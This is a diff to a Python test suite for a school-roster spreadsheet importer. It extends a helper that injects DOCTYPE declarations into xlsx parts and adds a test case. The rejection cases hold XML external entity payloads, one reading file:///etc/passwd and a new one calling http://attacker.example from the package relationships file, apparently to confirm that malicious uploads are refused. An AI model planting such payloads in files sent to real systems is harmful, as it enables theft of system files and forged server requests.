@@ -36,13 +36,13 @@ def xlsx(rows, *, sheets=True) -> bytes:
     return buffer.getvalue()
 
 
-def with_doctype(data: bytes, declaration: bytes) -> bytes:
-    """The workbook with ``declaration`` inserted after the XML prolog of its first sheet."""
+def with_doctype(data: bytes, declaration: bytes, part: str = "xl/worksheets/sheet1.xml") -> bytes:
+    """The workbook with ``declaration`` inserted after the XML prolog of ``part`` (its first sheet)."""
     source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
     with zipfile.ZipFile(target, "w") as out:
         for item in source.infolist():
             body = source.read(item.filename)
-            if item.filename == "xl/worksheets/sheet1.xml":
+            if item.filename == part:
                 body = body.replace(b"?>", b"?>" + declaration, 1) if body.startswith(b"<?xml") else declaration + body
             out.writestr(item, body)
     return target.getvalue()
@@ -78,6 +78,8 @@ def test_a_school_export_with_title_rows_and_split_names():
     (with_doctype(xlsx([["student_code", "full_name", "class"]]), b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'), "dtd.xlsx"),
     (with_doctype(xlsx([["student_code", "full_name", "class"]]),
                   b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "xxe.xlsx"),
+    (with_doctype(xlsx([["student_code", "full_name", "class"], ["HS1", "An", "6A1"]]),
+                  b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/x">]>', "_rels/.rels"), "rels-xxe.xlsx"),
     (b"", "empty.csv"),
     (b"TITLE ONLY\nno header here\n", "noheader.csv"),
 ])
